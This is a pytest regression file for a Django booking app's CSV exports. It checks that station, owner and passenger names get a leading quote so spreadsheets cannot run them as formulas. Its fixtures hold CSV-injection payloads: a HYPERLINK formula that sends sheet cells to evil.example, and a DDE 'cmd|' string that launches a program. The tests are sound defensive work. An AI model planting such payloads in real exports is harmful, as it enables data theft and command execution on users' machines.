"""Issue 23, finding 5: spreadsheet formulas in report CSVs.

Attack: a station named `=HYPERLINK("http://evil.example/?"&A1,"Tunis")` reached the reports
CSV as a live formula: whoever opened the export in a spreadsheet and clicked the name sent
the sheet's cells to evil.example. Now every CSV export goes through one writer
(louage.core.csvfiles) that writes such text with a leading quote; numbers, negative ones
included, stay numbers. Each export is downloaded here with hostile names in every text
column a station controls (its name, the destination's, the vehicle owner's).
"""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from louage.booking import services as booking
from louage.core.csvfiles import cell, csv_text
from louage.stations.models import Station, Vehicle

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Tunis")'
HOSTILE = [EVIL, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(response):
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    assert text.startswith("\ufeff".encode()), "Excel needs the byte-order mark"
    return [c for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for c in row]


def assert_inert(cells):
    """What a spreadsheet runs is a text cell starting with a formula character: none here."""
    for value in cells:
        if value.startswith(FORMULA_STARTS):
            float(value)  # only a number may start with "-" (a refund, a negative net)
    assert "'" + EVIL in cells


@pytest.fixture
def hostile_sales(station, other_station, vehicle, chief_user):
    Station.objects.filter(pk=station.pk).update(name=EVIL)
    Station.objects.filter(pk=other_station.pk).update(name=HOSTILE[1])
    Vehicle.objects.filter(pk=vehicle.pk).update(owner_name=HOSTILE[2])
    from tests.network_factories import TripFactory

    trip = TripFactory(origin=station, destination=other_station, vehicle=vehicle,
                       departure=timezone.now() + timedelta(hours=3), price=12_000)  # fmt: skip
    booking.sell_at_desk(trip=trip, seats=2, passenger_name=HOSTILE[3], by=chief_user)
    refunded = booking.sell_at_desk(trip=trip, seats=1, passenger_name=HOSTILE[4], by=chief_user)
    booking.cancel_reservation(reservation=refunded, by=chief_user)  # a negative refund row
    today = timezone.localdate()
    return {
        "from": (today - timedelta(days=1)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
    }


@pytest.mark.django_db
def test_the_reports_csv_of_the_api_neutralises_the_station_name(
    api, admin_user, chief_user, hostile_sales
):
    for user in (admin_user, chief_user):
        response = api(user).get("reports/sales", {**hostile_sales, "format": "csv"})
        assert response.status_code == 200
        cells = cells_of(response)
        assert_inert(cells)
        assert "'" + HOSTILE[1] in cells  # the destination, in the routes table


@pytest.mark.django_db
def test_the_dashboard_table_csvs_neutralise_the_station_name(web, admin_user, hostile_sales):
    web.force_login(admin_user)
    for table in ("stations", "routes"):
        response = web.get(f"/gestion/rapports/{table}.csv", hostile_sales)
        assert response.status_code == 200
        assert_inert(cells_of(response))


@pytest.mark.django_db
def test_the_cash_close_csv_api_and_web_neutralise_names_and_keep_negative_numbers(
    api, web, chief_user, station, hostile_sales
):
    day = timezone.localdate().isoformat()
    from_api = api(chief_user).get(
        f"stations/{station.pk}/cash-report", {"date": day, "format": "csv"}
    )
    web.force_login(chief_user)
    from_web = web.get("/guichet/caisse/", {"date": day, "format": "csv"})
    for response in (from_api, from_web):
        assert response.status_code == 200
        cells = cells_of(response)
        for value in cells:
            if value.startswith(FORMULA_STARTS):
                float(value)
        assert "'" + HOSTILE[2] in cells  # the vehicle's owner
        assert "-12000" in cells  # the refund: a number a spreadsheet adds up


def test_the_one_writer_quotes_text_and_leaves_numbers():
    assert [cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [cell(v) for v in (-2500, 0.75, "Tunis", None)] == [-2500, 0.75, "Tunis", ""]
    assert csv_text([["-2500", -2500]]) == "'-2500,-2500\r\n"  # text "-2500" is not a number
